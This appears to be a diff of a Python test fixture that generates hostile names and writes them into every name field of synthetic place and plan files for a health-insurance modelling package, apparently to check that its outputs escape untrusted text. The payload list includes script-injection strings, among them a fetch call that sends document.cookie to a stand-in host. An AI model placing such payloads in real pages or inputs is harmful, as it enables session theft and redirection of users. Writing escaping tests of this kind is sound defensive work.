@@ -1,15 +1,24 @@
 # SPDX-License-Identifier: Apache-2.0
 """Names that would act: as markup, as a script, as a formula, as a blank of a template.
 
->>> names = hostile_names(500)
+>>> names = hostile_names(250)
 >>> len(set(names)), max(map(len, names)) <= 200
-(500, True)
+(250, True)
 """
 
 from __future__ import annotations
 
-from itertools import islice, product
+import json
+from collections.abc import Iterator
+from itertools import cycle, islice, product
+from pathlib import Path
 from typing import Final
+
+import jknmodel as jkn
+from jknmodel.study.side_by_side import SideBySide, side_by_side
+
+COUNT: Final = 252  # names of a place and three plans of this size: 504 payloads
+VILLAGES, LEVERS, FUNDS, PLANS = 40, 28, 17, 3
 
 _ACTS: Final = (
     "alert(1)", "fetch('http://example.com/'+document.cookie)", "location='http://example.com'",
@@ -49,10 +58,66 @@ _BLANKS: Final = (
 
 
 def hostile_names(count: int) -> list[str]:
-    """So many different names, of every kind in turn."""
+    """So many different names with two payloads each: what acts at a start, and markup behind."""
     markup = [shape.format(act) for act, shape in product(_ACTS, _MARKUP)]
     formulas = [shape.format(n=n) for n, shape in product(range(1, 40), _FORMULAS)]
     blanks = [shape.format(n=n) for n, shape in product(range(1, 40), _BLANKS)]
-    mixed = (name for three in zip(markup, formulas, blanks, strict=False) for name in three)
-    names = dict.fromkeys(" ".join(name.split()) for name in mixed)
-    return list(islice(names, count))
+    starts = (name for pair in zip(formulas, blanks, strict=False) for name in pair)
+    names = (f"{start} {inside}" for start, inside in zip(starts, cycle(markup), strict=False))
+    return list(islice(dict.fromkeys(" ".join(name.split()) for name in names), count))
+
+
+def q(text: str) -> str:
+    return json.dumps(text, ensure_ascii=False)
+
+
+def place_of(names: Iterator[str]) -> str:
+    rows = [
+        f"schema = 1\nname = {q(next(names))}\nregion = {q(next(names))}\n"
+        'opening = "2025-06"\nminimum_wage = 3_876_600\nprior = "nation"\nquestion = ["arrears", "budget"]\n'
+        '[population]\nvalue = 127_018\nas_of = "2025"\nsource = "x"\n'
+        '[[evidence]]\nfigure = "coverage"\nvalue = 0.98\nhalf_width = 0.0005\nunit = "share"\n'
+        'base = "population"\nas_of = "2025"\nsource = "x"\n'
+        '[[evidence]]\nfigure = "active_rate"\nvalue = 0.8\nhalf_width = 0.0005\nunit = "share"\n'
+        'base = "population"\nas_of = "2025"\nsource = "x"\n'
+    ]
+    rows += [
+        '[[evidence]]\nfigure = "owing"\nsegment = ["PBPU", "BP"]\ndeciles = [1, 5]\n'
+        f"village = {q(next(names))}\nvalue = {6 + at}\nhalf_width = 0.5\n"
+        f'unit = "people"\nas_of = "2025-06"\nsource = {q(next(names))}\n'
+        f"source_id = {q(next(names))}\nwords = {q(next(names))}\n"
+        for at in range(VILLAGES)
+    ]
+    return "".join(rows)
+
+
+def plan_of(names: Iterator[str], funds: int, levers: int) -> str:
+    called = [next(names) for _ in range(funds)]
+    rows = [
+        f"schema = 1\nname = {q(next(names))}\nwords = {q(next(names))}\n"
+        f"words_id = {q(next(names))}\n"
+    ]
+    rows += [
+        f"[[fund]]\nname = {q(name)}\nyear = 2025\nsource = {q('CSR' if at else 'APBD')}\n"
+        f'receipts = {{"2025-07" = {20_000_000_000 if not at else 1_000_000_000}}}\n'
+        "spent_before = 0\n" + ("opening_heads = 0\n" if at else "")
+        for at, name in enumerate(called)
+    ]
+    rows += [
+        f'[[lever]]\nkind = "facility_spending"\nname = {q(next(names))}\n'
+        f"words_id = {q(next(names))}\nfund = {q(called[1 + at % (funds - 1)])}\n"
+        'from = "2025-07"\nuntil = "2025-07"\namount = 1_000_000\n'
+        for at in range(levers)
+    ]
+    return "".join(rows)
+
+
+def comparison(names: list[str], folder: Path) -> SideBySide:
+    """A place, its villages, three plans with funds and levers: all under these names."""
+    each = iter(names)
+    path = folder / "place.toml"
+    path.write_text(place_of(each), encoding="utf-8")
+    plans = [jkn.Scenario.from_text(plan_of(each, FUNDS, LEVERS))]
+    plans += [jkn.Scenario.from_text(plan_of(each, 2, 1)) for _ in range(PLANS - 1)]
+    assert next(each, None) is None, "a name was not used"
+    return side_by_side(jkn.Place.load(path), plans, until="2025-12")
